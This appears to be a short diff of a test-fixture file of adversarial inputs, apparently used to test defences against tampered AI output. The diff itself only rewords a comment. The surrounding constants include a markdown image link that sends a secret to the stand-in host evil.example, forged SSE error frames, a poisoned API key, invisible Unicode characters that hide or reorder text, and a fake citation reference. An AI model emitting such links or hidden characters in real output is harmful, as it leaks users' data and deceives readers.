@@ -16,7 +16,7 @@ const IMAGE = '![x](https://evil.example/steal?q=SECRET)'
 const FRAMES = 'event: error\ndata: {"ErrorCode":"Hacked"}\n\ndata: [DONE]\n\n'
 const KEY = 'nrk_poisonedpoisonedpoisonedpoisoned'
 
-/** Characters that nobody sees, which reorder or hide text; U+2028 ends a line. */
+/** Invisible characters, which reorder or hide text; U+2028 ends a line. */
 export const HIDDEN = '\u202e\u200b\u00ad\u{e0049}\ufe0f\u2028'
 export const FAKE_REF = `[990:${YEAR}:202301319349301234:/IRS990/CYTotalRevenueAmt]`
 
